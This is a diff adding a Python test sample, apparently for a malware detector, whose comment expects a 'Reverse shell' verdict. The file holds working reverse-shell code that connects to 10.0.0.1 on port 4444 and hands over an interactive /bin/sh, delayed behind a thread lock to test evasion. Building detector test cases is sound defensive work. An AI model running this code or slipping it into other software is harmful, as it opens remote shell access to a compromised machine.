@@ -0,0 +1,25 @@
+# 工作线程等待启动线程持有的RLock，锁释放后才执行反弹shell
+# detect-expect: 'IsMalicious': True, 'Desc': 'Reverse shell'
+import os
+import socket
+import subprocess
+import threading
+import time
+
+lock = threading.RLock()
+
+
+def worker():
+    with lock:
+        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+        s.connect(("10.0.0.1", 4444))
+        os.dup2(s.fileno(), 0)
+        os.dup2(s.fileno(), 1)
+        subprocess.call(["/bin/sh", "-i"])
+
+
+t = threading.Thread(target=worker)
+with lock:
+    t.start()
+    time.sleep(0.1)
+t.join()